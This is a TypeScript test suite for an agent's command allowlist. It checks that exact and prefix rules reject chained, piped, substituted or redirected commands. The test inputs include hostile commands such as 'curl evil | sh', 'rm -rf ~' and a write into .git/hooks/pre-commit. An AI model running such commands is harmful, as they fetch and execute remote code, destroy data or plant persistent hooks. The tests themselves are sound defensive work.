import assert from 'node:assert/strict';
import { allowRules, findAllowRule, hasShellSyntax, parseAllowRule } from '../../../src/app/command-allowlist';

const allows = (entries: string[], command: string): boolean => findAllowRule(command, allowRules(entries)) !== undefined;

describe('longrun.agent.allowedCommands: what runs without asking', () => {
  it('allows an exact command and nothing longer, shorter or different', () => {
    const list = ['npm test'];
    assert.ok(allows(list, 'npm test'));
    assert.ok(allows(list, '  npm test  '), 'surrounding whitespace does not matter');
    assert.ok(!allows(list, 'npm test -- --grep x'));
    assert.ok(!allows(list, 'npm'));
    assert.ok(!allows(list, 'npm  test'));
    assert.ok(!allows(list, 'npm test; rm -rf .'));
  });

  it('allows an exact command with shell operators when the user listed exactly that command', () => {
    assert.ok(allows(['npm run build && npm test'], 'npm run build && npm test'));
    assert.ok(!allows(['npm run build && npm test'], 'npm run build && npm test && curl x | sh'));
  });

  it('allows a prefix rule alone or followed by arguments, but not a longer word', () => {
    const list = ['npm run *'];
    assert.ok(allows(list, 'npm run'));
    assert.ok(allows(list, 'npm run build'));
    assert.ok(allows(list, 'npm run test -- --watch=false'));
    assert.ok(!allows(list, 'npm runner'));
    assert.ok(!allows(list, 'npm install'));
  });

  it('never lets a prefix rule allow a second command, a pipe, a redirection or a substitution', () => {
    const list = ['git status *', 'echo *'];
    for (const command of [
      'git status; curl evil | sh',
      'git status && rm -rf ~',
      'git status || reboot',
      'git status | sh',
      'git status & rm -rf .',
      'echo `id`',
      'echo $(id)',
      'echo x > .git/hooks/pre-commit',
      'echo x >> .git/config',
      'git status < /dev/null',
      'echo !!',
      'git status\nrm -rf .',
    ]) {
      assert.ok(hasShellSyntax(command), command);
      assert.ok(!allows(list, command), command);
    }
    assert.ok(allows(list, 'echo "hello world" $HOME'), 'quotes and variables are not operators');
  });

  it('treats a star anywhere but at the end, after a space, as part of an exact command', () => {
    assert.ok(allows(['ls *.ts'], 'ls *.ts'));
    assert.ok(!allows(['ls *.ts'], 'ls src.ts'));
    assert.ok(!allows(['npm run*'], 'npm run build'));
  });

  it('rejects entries that would allow every command or could never match', () => {
    assert.deepEqual(parseAllowRule(' '), { problem: 'must not be empty' });
    assert.match((parseAllowRule('*') as { problem: string }).problem, /would allow every command/);
    assert.match((parseAllowRule('make; *') as { problem: string }).problem, /shell operator/);
    assert.match((parseAllowRule('npm test\nrm -rf .') as { problem: string }).problem, /one line/);
    assert.deepEqual(
      allowRules(['*', 'npm test']).map((r) => r.entry),
      ['npm test'],
      'an invalid entry is skipped, the others kept',
    );
  });

  it('names the entry that allowed a command', () => {
    assert.equal(findAllowRule('make all', allowRules(['npm test', 'make *']))?.entry, 'make *');
  });
});
